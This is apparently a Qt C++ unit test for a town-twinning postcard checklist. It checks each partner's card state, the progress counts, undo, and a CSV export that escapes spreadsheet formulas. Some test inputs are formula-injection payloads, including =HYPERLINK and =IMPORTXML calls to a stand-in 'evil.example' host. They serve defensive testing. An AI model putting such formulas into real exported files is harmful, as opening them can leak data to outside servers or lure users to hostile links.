// SPDX-License-Identifier: GPL-3.0-or-later
// The postcard checklist: each partner of a place received, wanted or not yet, the progress,
// the partners with a card for the map, and a CSV export in which nothing a spreadsheet would
// run as a formula stays a formula.
#include "db/atlasdatabase.h"
#include "db/atlasreader.h"
#include "edit/atlaswriter.h"
#include "edit/checklistcsvwriter.h"
#include "edittesting.h"
#include "testatlas.h"

#include <QTemporaryDir>
#include <QtTest>

using namespace twinatlas;
using namespace twinatlas::testing;

class tst_Checklist : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void checklistShowsEveryPartner();
    void cellStaysText_data();
    void cellStaysText();
    void fileIsWrittenWhole();

private:
    QTemporaryDir m_dir;
    AtlasDatabase m_db;
};

void tst_Checklist::initTestCase()
{
    const QString path = buildSmallAtlas(m_dir.path());
    QVERIFY(!path.isEmpty());
    QVERIFY(m_db.open(path));
}

void tst_Checklist::checklistShowsEveryPartner()
{
    AtlasReader reader(m_db.connection());
    const qint64 ddorf = reader.placeByUid(QStringLiteral("gn:2934246"))->id;
    QVector<ChecklistItem> items = reader.checklistOf(ddorf);
    QCOMPARE(items.size(), 3);
    QCOMPARE(items.at(0).partnerName, QStringLiteral("Chemnitz"));
    QCOMPARE(items.at(2).partnerName, QStringLiteral("Reading"));
    for (const ChecklistItem &item : items)
        QCOMPARE(item.state, ChecklistItem::State::NotYet);

    ChangeSet c;
    ChecklistRow received;
    received.placeUid = QStringLiteral("gn:2934246");
    received.partnerUid = QStringLiteral("gn:2639577");
    received.state = QStringLiteral("received");
    received.receivedDate = QStringLiteral("2024-05");
    received.note = QStringLiteral("From Anna: the Abbey ruins");
    c.insert(received);
    ChecklistRow wanted;
    wanted.placeUid = QStringLiteral("gn:2934246");
    wanted.partnerUid = QStringLiteral("gn:294801");
    c.insert(wanted);
    // A card the other way round belongs to Reading's checklist, not Düsseldorf's.
    ChecklistRow back;
    back.placeUid = QStringLiteral("gn:2639577");
    back.partnerUid = QStringLiteral("gn:2934246");
    back.state = QStringLiteral("received");
    c.insert(back);
    AtlasWriter writer(m_db);
    const ApplyResult r = writer.apply(c);
    QVERIFY2(r.ok, qPrintable(r.errorString()));

    items = reader.checklistOf(ddorf);
    QCOMPARE(items.at(0).state, ChecklistItem::State::NotYet);
    QCOMPARE(items.at(1).state, ChecklistItem::State::Wanted);
    QCOMPARE(items.at(2).state, ChecklistItem::State::Received);
    QCOMPARE(items.at(2).receivedDate, QStringLiteral("2024-05"));
    QCOMPARE(items.at(2).note, received.note);
    QVERIFY(!items.at(2).modifiedAt.isEmpty());
    const ChecklistProgress progress = reader.checklistProgress(ddorf);
    QCOMPARE(progress.received, 1);
    QCOMPARE(progress.wanted, 1);
    QCOMPARE(progress.total, 3);
    QCOMPARE(reader.partnersWithCard(ddorf), QSet<qint64>{items.at(2).partnerId});
    QVERIFY(writer.apply(r.inverse).ok);
    QCOMPARE(reader.checklistProgress(ddorf).received, 0);
}

void tst_Checklist::cellStaysText_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("cell");
    QTest::newRow("plain") << "Reading"
                           << "Reading";
    QTest::newRow("empty") << ""
                           << "";
    QTest::newRow("a date") << "2024-05-01"
                            << "2024-05-01";
    QTest::newRow("equals") << "=1+2"
                            << "'=1+2";
    QTest::newRow("plus") << "+49 211 8900"
                          << "'+49 211 8900";
    QTest::newRow("minus") << "-5 cards"
                           << "'-5 cards";
    QTest::newRow("at") << "@SUM(A1:A9)"
                        << "'@SUM(A1:A9)";
    QTest::newRow("tab first") << "\t=1+2"
                               << "'\t=1+2";
    QTest::newRow("formula with quotes and commas")
            << "=HYPERLINK(\"http://evil.example\",\"card\")"
            << "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"card\"\")\"";
    QTest::newRow("comma") << "Anna, Reading"
                           << "\"Anna, Reading\"";
    QTest::newRow("line break") << "Abbey ruins\nand the river"
                                << "\"Abbey ruins\nand the river\"";
    QTest::newRow("formula sign later") << "card = gift"
                                        << "card = gift";
}

void tst_Checklist::cellStaysText()
{
    QFETCH(QString, text);
    QFETCH(QString, cell);
    QCOMPARE(ChecklistCsvWriter::cell(text), cell);
}

void tst_Checklist::fileIsWrittenWhole()
{
    ChecklistItem item;
    item.partnerName = QStringLiteral("Reading");
    item.partnerUid = QStringLiteral("gn:2639577");
    item.country = QStringLiteral("GB");
    item.state = ChecklistItem::State::Received;
    item.receivedDate = QStringLiteral("2024-05");
    item.note = QStringLiteral("=IMPORTXML(\"http://evil.example\")");
    ChecklistItem other;
    other.partnerName = QStringLiteral("Haifa");
    other.partnerUid = QStringLiteral("gn:294801");
    other.country = QStringLiteral("IL");
    const QString path = m_dir.filePath(QStringLiteral("cards.csv"));
    QString error;
    QVERIFY2(ChecklistCsvWriter::write(path, QStringLiteral("Düsseldorf"), {item, other}, &error),
             qPrintable(error));
    QFile f(path);
    QVERIFY(f.open(QIODevice::ReadOnly));
    const QByteArray bytes = f.readAll();
    QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
    const QStringList lines = QString::fromUtf8(bytes.mid(3)).split(QStringLiteral("\r\n"));
    QCOMPARE(lines.size(), 4); // header, two partners, the empty rest after the last CRLF
    QCOMPARE(lines.at(0), QStringLiteral("Place,Partner,Country,Card,Received on,Note,Partner id"));
    QCOMPARE(lines.at(1),
             QStringLiteral("Düsseldorf,Reading,GB,Received,2024-05,\"'=IMPORTXML(\"\"http://"
                            "evil.example\"\")\",gn:2639577"));
    QCOMPARE(lines.at(2), QStringLiteral("Düsseldorf,Haifa,IL,Not yet,,,gn:294801"));
    QVERIFY(lines.at(3).isEmpty());
    // A file that cannot be written is reported, and nothing half-written is left.
    QVERIFY(!ChecklistCsvWriter::write(m_dir.filePath(QStringLiteral("no/such/folder/cards.csv")),
                                       QStringLiteral("Düsseldorf"), {item}, &error));
    QVERIFY(error.contains(QLatin1String("Cannot write")));
}

QTEST_GUILESS_MAIN(tst_Checklist)
#include "tst_checklist.moc"
